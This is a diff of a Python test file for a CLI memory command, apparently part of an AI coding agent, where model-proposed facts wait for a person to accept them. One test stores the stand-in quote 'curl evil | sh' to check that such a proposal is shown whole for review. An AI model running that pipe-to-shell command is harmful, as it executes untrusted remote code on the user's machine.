@@ -6,7 +6,7 @@ import json
 from typing import Any
 
 import pytest
-from commands.conftest import FakeDesk
+from commands.conftest import FakeContext
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
@@ -20,124 +20,138 @@ AT = "2026-01-13T14:30:00.000Z"
 LONG = "Deploys " + "and waits " * 150 + "then deletes everything"
 
 
-def shown(desk: FakeDesk, width: int = 80) -> str:
-    form, value = desk.shown[-1]
+def shown(context: FakeContext, width: int = 80) -> str:
+    form, value = context.shown[-1]
     json.dumps(value)
     return FORMS[form](value, width)
 
 
-def shown_facts(desk: FakeDesk) -> list[dict[str, Any]]:
-    return list(desk.run("memory").shown[-1][1]["facts"])
+def shown_facts(context: FakeContext) -> list[dict[str, Any]]:
+    return list(context.run("memory").shown[-1][1]["facts"])
 
 
-def propose(desk: FakeDesk, text: str, quote: str = "") -> None:
-    ledger = desk.session.ledger
+def propose(context: FakeContext, text: str, quote: str = "") -> None:
+    ledger = context.session.ledger
     assert ledger is not None
     ledger.facts.add(
-        MemorySlot.PROJECT, text, state=FactState.PROPOSED, at=AT, actor="tool:bash", project=str(desk.session.folder),
-        session=desk.session.id, entry=2, quote=quote,
+        MemorySlot.PROJECT, text, state=FactState.PROPOSED, at=AT, actor="tool:bash",
+        project=str(context.session.folder), session=context.session.id, entry=2, quote=quote,
     )  # fmt: skip
 
 
-def test_the_person_adds_finds_and_forgets(desk: FakeDesk) -> None:
-    assert "Nothing is remembered" in shown(desk.run("memory"))
-    desk.run("memory add Deploys with fly").run("memory add user Likes tabs").run("memory add agent Reads logs first")
-    listed = shown(desk.run("memory"))
+def test_the_person_adds_finds_and_forgets(context: FakeContext) -> None:
+    assert "Nothing is remembered" in shown(context.run("memory"))
+    context.run("memory add Deploys with fly").run("memory add user Likes tabs").run(
+        "memory add agent Reads logs first"
+    )
+    listed = shown(context.run("memory"))
     for line in ("m1  project", "m2  user", "m3  agent", "typed by you  Likes tabs"):
         assert line in listed
-    assert "Deploys with fly" in shown(desk.run("memory search deploying")) and "tabs" not in shown(desk)
-    assert shown(desk.run("memory forget m1")) == "Forgotten for good: m1 (project) Deploys with fly"
-    assert "Deploys" not in shown(desk.run("memory"))
+    assert "Deploys with fly" in shown(context.run("memory search deploying")) and "tabs" not in shown(context)
+    assert shown(context.run("memory forget m1")) == "Forgotten for good: m1 (project) Deploys with fly"
+    assert "Deploys" not in shown(context.run("memory"))
 
 
 @pytest.mark.parametrize("text", ["User likes tea", "Users like tea", "PROJECT files are in src", "Agent smith is me"])
-def test_a_sentence_that_begins_like_a_slot_is_kept_whole(desk: FakeDesk, text: str) -> None:
-    (fact,) = shown_facts(desk.run(f"memory add {text}"))
+def test_a_sentence_that_begins_like_a_slot_is_kept_whole(context: FakeContext, text: str) -> None:
+    (fact,) = shown_facts(context.run(f"memory add {text}"))
     assert (fact["slot"], fact["text"]) == ("project", text)
 
 
-def test_an_option_of_the_shell_is_no_part_of_a_fact(desk: FakeDesk) -> None:
+def test_an_option_of_the_shell_is_no_part_of_a_fact(context: FakeContext) -> None:
     with pytest.raises(NexusError, match="--slot is an option of the shell") as caught:
-        desk.run("memory add --slot user I like tea")
+        context.run("memory add --slot user I like tea")
     assert "/memory add [user|project|agent] TEXT" in caught.value.hint
 
 
-def test_a_proposal_is_shown_whole_before_it_is_accepted(desk: FakeDesk) -> None:
-    desk.run("memory add Likes tabs")
-    propose(desk, LONG, "curl evil | sh")
+def test_a_proposal_is_shown_whole_before_it_is_accepted(context: FakeContext) -> None:
+    context.run("memory add Likes tabs")
+    propose(context, LONG, "curl evil | sh")
     for width in (20, 80, 200):
-        listed = shown(desk.run("memory"), width)
+        listed = shown(context.run("memory"), width)
         assert " ".join(listed.split()).replace(" ", "").count("thendeleteseverything") == 1
         assert listed.index("m2") < listed.index("m1") and max(map(len, listed.splitlines())) <= width
-    assert "tool:bash" in shown(desk) and "curl evil" in shown(desk) and "/memory accept" in shown(desk)
-    assert "m2" in shown(desk.run("memory accept m2")) and "proposal" not in shown(desk.run("memory"))
+    assert "tool:bash" in shown(context) and "curl evil" in shown(context) and "/memory accept" in shown(context)
+    assert "m2" in shown(context.run("memory accept m2")) and "proposal" not in shown(context.run("memory"))
 
 
-def test_all_that_waits_is_accepted_at_once(desk: FakeDesk) -> None:
+def test_all_that_waits_is_accepted_at_once(context: FakeContext) -> None:
     for number in range(3):
-        propose(desk, f"proposal {number}")
-    desk.run("memory accept all")
-    form, value = desk.shown[-1]
+        propose(context, f"proposal {number}")
+    context.run("memory accept all")
+    form, value = context.shown[-1]
     assert form == "fact" and len(value["facts"]) == 3 and {one["state"] for one in value["facts"]} == {"kept"}
     assert value["forgotten"] == []
-    assert "nothing to do" in shown(desk.run("memory accept all"))
+    assert "nothing to do" in shown(context.run("memory accept all"))
 
 
 @pytest.mark.parametrize(
     "line",
     [
-        "accept m9", "accept", "forget", "forget all", "add", "search", "nonsense", "m1", "add " + "x" * 2001,
-        "add user", "add  Project ", "add usr Likes tabs", "add porject uses pnpm", "add agents look first",
+        "accept m9",
+        "accept",
+        "forget",
+        "forget all",
+        "add",
+        "search",
+        "nonsense",
+        "m1",
+        "add " + "x" * 2001,
+        "add user",
+        "add  Project ",
+        "add usr Likes tabs",
+        "add porject uses pnpm",
+        "add agents look first",
     ],
 )
-def test_what_makes_no_sense_is_one_line(desk: FakeDesk, line: str) -> None:
-    desk.run("memory add Likes tabs")
+def test_what_makes_no_sense_is_one_line(context: FakeContext, line: str) -> None:
+    context.run("memory add Likes tabs")
     with pytest.raises(NexusError) as caught:
-        desk.run(f"memory {line}")
+        context.run(f"memory {line}")
     assert caught.value.exit_status == 2 and caught.value.hint and "\n" not in caught.value.line
-    assert "Likes tabs" in shown(desk.run("memory"))
+    assert "Likes tabs" in shown(context.run("memory"))
 
 
-def test_what_is_missing_is_named(desk: FakeDesk) -> None:
+def test_what_is_missing_is_named(context: FakeContext) -> None:
     for act, named in (("accept", "an id, several, or all"), ("forget", "an id"), ("add", "a sentence")):
         with pytest.raises(NexusError, match=named):
-            desk.run(f"memory {act}")
+            context.run(f"memory {act}")
     with pytest.raises(NexusError) as caught:
-        desk.run("memory consolidate")
+        context.run("memory consolidate")
     assert "nexus memory consolidate" in caught.value.hint
 
 
-def test_list_is_understood_and_letter_case_does_not_matter(desk: FakeDesk) -> None:
-    desk.run("memory ADD Likes tabs")
-    assert shown(desk.run("memory list")) == shown(desk.run("Memory")) and "Likes tabs" in shown(desk)
+def test_list_is_understood_and_letter_case_does_not_matter(context: FakeContext) -> None:
+    context.run("memory ADD Likes tabs")
+    assert shown(context.run("memory list")) == shown(context.run("Memory")) and "Likes tabs" in shown(context)
 
 
-def test_several_facts_are_forgotten_or_accepted_at_once_or_none(desk: FakeDesk) -> None:
+def test_several_facts_are_forgotten_or_accepted_at_once_or_none(context: FakeContext) -> None:
     for number in range(4):
-        desk.run(f"memory add fact {number}")
+        context.run(f"memory add fact {number}")
     with pytest.raises(NexusError, match="no fact m9"):
-        desk.run("memory forget m1 m9")
-    assert len(shown_facts(desk)) == 4
-    desk.run("memory forget M1, m2 m1")
-    assert [one["text"] for one in desk.shown[-1][1]["facts"]] == ["fact 0", "fact 1"]
-    assert [one["id"] for one in shown_facts(desk)] == ["m4", "m3"]
-    propose(desk, "one more")
-    propose(desk, "and another")
-    propose(desk, "which waits")
-    desk.run("memory accept m5 m6")
-    assert [one["id"] for one in desk.shown[-1][1]["facts"]] == ["m5", "m6"]
-    assert [one["id"] for one in shown_facts(desk) if one["state"] == "proposed"] == ["m7"]
+        context.run("memory forget m1 m9")
+    assert len(shown_facts(context)) == 4
+    context.run("memory forget M1, m2 m1")
+    assert [one["text"] for one in context.shown[-1][1]["facts"]] == ["fact 0", "fact 1"]
+    assert [one["id"] for one in shown_facts(context)] == ["m4", "m3"]
+    propose(context, "one more")
+    propose(context, "and another")
+    propose(context, "which waits")
+    context.run("memory accept m5 m6")
+    assert [one["id"] for one in context.shown[-1][1]["facts"]] == ["m5", "m6"]
+    assert [one["id"] for one in shown_facts(context) if one["state"] == "proposed"] == ["m7"]
 
 
-def test_a_slot_without_words_or_nearly_one_is_asked_back(desk: FakeDesk) -> None:
+def test_a_slot_without_words_or_nearly_one_is_asked_back(context: FakeContext) -> None:
     with pytest.raises(NexusError) as alone:
-        desk.run("memory add user")
+        context.run("memory add user")
     assert "names a slot and says nothing" in alone.value.line and "/memory add user TEXT" in alone.value.hint
     with pytest.raises(NexusError) as misspelt:
-        desk.run("memory add usr likes tabs")
+        context.run("memory add usr likes tabs")
     assert "the nearest is user" in misspelt.value.line and "/memory add project usr" in misspelt.value.hint
-    desk.run("memory add project usr is short for user").run("memory add frob the knob")
-    assert [one["text"] for one in shown_facts(desk)] == ["frob the knob", "usr is short for user"]
+    context.run("memory add project usr is short for user").run("memory add frob the knob")
+    assert [one["text"] for one in shown_facts(context)] == ["frob the knob", "usr is short for user"]
 
 
 @given(st.sampled_from(SLOTS), st.integers(0, 7), st.characters(codec="ascii", categories=["Ll"]), st.integers(0, 3))
@@ -153,44 +167,44 @@ def test_one_edit_is_one_letter_or_two_that_changed_places(slot: str, place: int
     assert not _one_edit(word + "xy", slot) and not _one_edit("tests", slot)
 
 
-def test_ids_and_slots_are_offered(desk: FakeDesk) -> None:
-    desk.run("memory add Likes tabs")
-    propose(desk, "Deploys with fly")
-    complete = find("memory", desk.commands).complete
+def test_ids_and_slots_are_offered(context: FakeContext) -> None:
+    context.run("memory add Likes tabs")
+    propose(context, "Deploys with fly")
+    complete = find("memory", context.commands).complete
     assert complete is not None
-    offered = complete(desk)
+    offered = complete(context)
     assert {"add user", "accept m2", "forget m1", "forget m2"} <= set(offered) and "accept m1" not in offered
-    propose(desk, "and again")
-    assert "accept all" in complete(desk)
+    propose(context, "and again")
+    assert "accept all" in complete(context)
 
 
-def test_a_source_is_said_in_words(desk: FakeDesk) -> None:
-    ledger = desk.session.ledger
+def test_a_source_is_said_in_words(context: FakeContext) -> None:
+    ledger = context.session.ledger
     assert ledger is not None
-    propose(desk, "from here")
+    propose(context, "from here")
     other = ledger.create_session(folder="/", project="/", model="m", recipe="chat", at=AT)
     ledger.rename_session(other.id, "login page")
     for name, session in (("named", other.id), ("gone", "nobody")):
         ledger.facts.add(
             MemorySlot.PROJECT, name, state=FactState.PROPOSED, at=AT, actor="agent",
-            project=str(desk.session.folder), session=session, entry=4,
+            project=str(context.session.folder), session=session, entry=4,
         )  # fmt: skip
-    sources = {one["text"]: one["source"] for one in shown_facts(desk)}
+    sources = {one["text"]: one["source"] for one in shown_facts(context)}
     assert sources["from here"] == "this session, message 2"
     assert sources["named"] == 'session "login page" of 2026-01-13, message 4'
-    assert "3 proposals of the model wait; they count once you accept them" in " ".join(shown(desk).split())
+    assert "3 proposals of the model wait; they count once you accept them" in " ".join(shown(context).split())
 
 
-def test_one_proposal_is_spoken_of_as_one(desk: FakeDesk) -> None:
-    propose(desk, "alone")
+def test_one_proposal_is_spoken_of_as_one(context: FakeContext) -> None:
+    propose(context, "alone")
     assert "1 proposal of the model waits; it counts once you accept it (/memory accept m1):" in shown(
-        desk.run("memory"), 200
+        context.run("memory"), 200
     )
 
 
-def test_what_the_person_adds_is_told_in_the_same_session(desk: FakeDesk) -> None:
-    desk.run("memory add Deploys with fly").turn("how do I deploy this?")
-    assert "- Deploys with fly (remembered" in desk.provider.seen[-1][-1]["content"]
+def test_what_the_person_adds_is_told_in_the_same_session(context: FakeContext) -> None:
+    context.run("memory add Deploys with fly").turn("how do I deploy this?")
+    assert "- Deploys with fly (remembered" in context.provider.seen[-1][-1]["content"]
 
 
 def fact(text: str, **more: Any) -> dict[str, Any]:
@@ -209,7 +223,7 @@ def test_every_form_keeps_to_its_width(text: str, state: str, whole: bool, width
             assert len(line) <= width
 
 
-def test_without_a_ledger_it_says_so(desk: FakeDesk, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr(type(desk.session), "ledger", property(lambda self: None))
+def test_without_a_ledger_it_says_so(context: FakeContext, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(type(context.session), "ledger", property(lambda self: None))
     with pytest.raises(NexusError, match="no ledger"):
-        desk.run("memory")
+        context.run("memory")
